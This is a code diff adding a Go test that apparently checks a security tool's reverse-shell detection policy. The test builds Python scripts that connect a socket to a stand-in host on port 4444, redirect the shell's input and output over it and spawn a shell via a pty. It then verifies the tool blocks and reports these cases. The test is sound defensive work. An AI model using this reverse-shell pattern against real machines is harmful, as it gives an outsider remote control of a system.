@@ -437,6 +437,37 @@ func TestSumOfTheKilled(t *testing.T) {
 	}
 }
 
+// TestReverseShellByTerminal: a shell at a terminal that its parent carries to
+// another machine is found without a word of it in the command line; a shell at
+// a terminal alone is none.
+func TestReverseShellByTerminal(t *testing.T) {
+	t.Parallel()
+	need(t, "root", "ip", "python3")
+	const dial = `import os, pty, socket
+listener = socket.create_server(("192.0.2.77", 4444))
+s = socket.create_connection(("192.0.2.77", 4444))
+`
+	const policy = "version: 1\nrules:\n  - name: r\n    processes: {effect: prevent, detect: {reverseShell: prevent}}\n"
+	for name, script := range map[string]string{
+		"relay":    dial + "[os.dup2(s.fileno(), fd) for fd in (0, 1)]\npty.spawn(['sh', '-c', 'echo in >ran'])\n",
+		"input":    dial + "os.dup2(s.fileno(), 0)\npty.spawn(['sh', '-c', 'echo in >ran'])\n",
+		"alone":    dial + "pty.spawn(['sh', '-c', 'echo in >ran'])\n",
+		"loopback": strings.ReplaceAll(dial, "192.0.2.77", "127.0.0.1") + "os.dup2(s.fileno(), 0)\npty.spawn(['sh', '-c', 'echo in >ran'])\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			dir := workDir(t, 0)
+			give(t, dir, map[string][]byte{"script": []byte(script)})
+			r := run{policy: policy, wrap: onInternet("192.0.2.77"), dir: dir}.protected(t, "python3", "script")
+			_, err := os.Stat(filepath.Join(dir, "ran"))
+			told := r.of("reverseShell")
+			if away := name == "relay" || name == "input"; away == (err == nil) || away != (len(told) > 0) || len(told) > 0 && !told[0].Refused {
+				t.Errorf("it ran: %v; told of %+v; %q", err == nil, told, r.err)
+			}
+		})
+	}
+}
+
 // nameServer answers every question with an address, and returns its own.
 func nameServer(t *testing.T, address string) string {
 	t.Helper()
